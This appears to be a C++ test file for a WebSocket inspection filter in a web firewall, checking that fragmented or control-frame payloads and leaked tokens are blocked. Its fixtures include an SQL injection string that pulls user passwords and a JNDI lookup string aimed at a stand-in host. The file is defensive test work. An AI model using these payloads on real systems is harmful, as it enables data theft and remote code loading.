#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "absl/strings/str_cat.h"

#include "filters/inspect/testing.h"
#include "inspect/websocket/testing.h"

namespace firebreak::filters {
namespace {

using inspect::Frame;

constexpr char kInjection[] = "1' UNION SELECT name, password FROM users-- ";

// One exchange that has become a WebSocket.
class Socket : public Inspected {
 public:
  explicit Socket(const ListenerPlan& plan) : Inspected(plan) {
    request().has_body = false;
    request().upgrade = http::Upgrade::kWebsocket;
    request().headers.Add("sec-websocket-extensions", "permessage-deflate");
    EXPECT_EQ(Headers(), Step::kContinue);
    response().status = 101;
    EXPECT_EQ(filter().OnResponse(exchange()), Step::kContinue);
  }
  Step Send(Towards towards, absl::string_view bytes, size_t piece = SIZE_MAX) {
    while (!bytes.empty()) {
      const Step step = filter().OnBody(exchange(), towards, bytes.substr(0, piece));
      if (step == Step::kClose) return step;
      bytes.remove_prefix(std::min(piece, bytes.size()));
    }
    return Step::kContinue;
  }
};

TEST(SocketInspection, EndsWithAnAttackInAMessageHoweverItIsCut) {
  const std::string attack = absl::StrCat(R"({"id": ")", kInjection, R"("})");
  const std::string frames =
      absl::StrCat(Frame(0x81, R"({"id": 7})"), Frame(0x01, attack.substr(0, 20)), Frame(0x89, "p"),
                   Frame(0x80, attack.substr(20)));
  for (size_t piece = 1; piece <= frames.size(); ++piece) {
    Socket socket(RequestsOnly(InspectionMode::kBlock));
    ASSERT_EQ(socket.Send(Towards::kUpstream, frames, piece), Step::kClose) << piece;
    const flows::Record& record = socket.Record();
    EXPECT_EQ(record.reason, Reason::kInspection);
    ASSERT_NE(record.inspection, nullptr);
    EXPECT_TRUE(record.inspection->blocked);
    EXPECT_EQ(record.inspection->matches.at(0).field, "json:$.id");
  }
}

TEST(SocketInspection, TextWithoutStructureIsAFieldOfItsOwnPlace) {
  Socket socket(RequestsOnly(InspectionMode::kDetect));
  EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0x81, kInjection)), Step::kContinue);
  EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0x81, "and on it goes")), Step::kContinue);
  EXPECT_EQ(socket.Record().inspection->matches.at(0).field, "websocket");
}

TEST(SocketInspection, ScoresOfSeveralMessagesDoNotAddUp) {
  Socket socket(RequestsOnly(InspectionMode::kBlock));
  for (int i = 0; i < 10; ++i) {
    EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0x81, R"({"a": 1} {"a": 2})")),
              Step::kContinue);
  }
  EXPECT_EQ(socket.Record().inspection->score, 3U);
}

TEST(SocketInspection, CompressionIsNotOfferedOnAndRefusedWhenItComesAllTheSame) {
  Socket socket(RequestsOnly(InspectionMode::kBlock));
  EXPECT_FALSE(socket.request().headers.Has("sec-websocket-extensions"));
  EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0xc1, "packed")), Step::kClose);
  EXPECT_EQ(socket.Record().inspection->matches.at(0).id, "FBI-ENC-006");
  Socket off{ListenerPlan()};
  EXPECT_TRUE(off.request().headers.Has("sec-websocket-extensions"));
}

TEST(SocketInspection, WhatIsNoFrameIsRefused) {
  Socket socket(RequestsOnly(InspectionMode::kBlock));
  EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0x80, "goes on with nothing")), Step::kClose);
  EXPECT_EQ(*socket.Record().detail, "FBI-ENC-007");
}

TEST(SocketInspection, KeepsInWhatShouldNotLeave) {
  ListenerPlan plan;
  plan.orders.data_loss = InspectionMode::kBlock;
  Socket socket(plan);
  const std::string text = absl::StrCat("token: ", kToken);
  EXPECT_EQ(socket.Send(Towards::kUpstream, Frame(0x81, text)), Step::kContinue);
  EXPECT_EQ(socket.Send(Towards::kDownstream, Frame(0x81, text, false)), Step::kClose);
  const auto info = socket.Record().inspection;
  ASSERT_EQ(info->matches.size(), 1U);
  EXPECT_EQ(info->matches[0].excerpt, "github-token ending in 2ePq");
}

TEST(SocketInspection, LooksIntoWhatControlFramesSayInTheMidstOfAMessageToo) {
  const std::string attack = "${jndi:ldap://evil.example/a}";
  for (const std::string& frame :
       {Frame(0x89, attack), Frame(0x8a, attack), Frame(0x88, absl::StrCat("\x03\xe8", attack))}) {
    const std::string frames = absl::StrCat(Frame(0x01, R"({"id": )"), frame);
    for (const size_t piece : {size_t{1}, SIZE_MAX}) {
      Socket socket(RequestsOnly(InspectionMode::kBlock));
      ASSERT_EQ(socket.Send(Towards::kUpstream, frames, piece), Step::kClose);
      EXPECT_EQ(socket.Record().inspection->matches.at(0).field, "websocket");
    }
    ListenerPlan plan;
    plan.orders.data_loss = InspectionMode::kBlock;
    Socket leaving(plan);
    EXPECT_EQ(leaving.Send(Towards::kDownstream, Frame(0x8a, kToken, false)), Step::kClose);
  }
}

TEST(SocketInspection, OrdinaryPingsDisturbNoMessage) {
  Socket socket(RequestsOnly(InspectionMode::kBlock));
  const std::string frames =
      absl::StrCat(Frame(0x01, R"({"id": "1' UNION )"), Frame(0x89, "1700000000"), Frame(0x89, ""),
                   Frame(0x80, R"(SELECT name FROM users-- "})"));
  EXPECT_EQ(socket.Send(Towards::kUpstream, frames, 1), Step::kClose);
  EXPECT_EQ(socket.Record().inspection->matches.at(0).field, "json:$.id");
}

TEST(SocketInspection, WhatIsOffHidesNothingThatIsOn) {
  Socket socket(TokensAreOff());
  const std::string tokens = ManyTokens();
  EXPECT_EQ(socket.Send(Towards::kDownstream, Frame(0x81, tokens, false)), Step::kContinue);
  EXPECT_EQ(socket.Send(Towards::kDownstream, Frame(0x81, tokens + std::string(kAwsKey), false)),
            Step::kClose);
  EXPECT_EQ(socket.Record().inspection->matches.at(0).excerpt, "aws-access-key-id ending in 5RWD");
}

}  // namespace
}  // namespace firebreak::filters
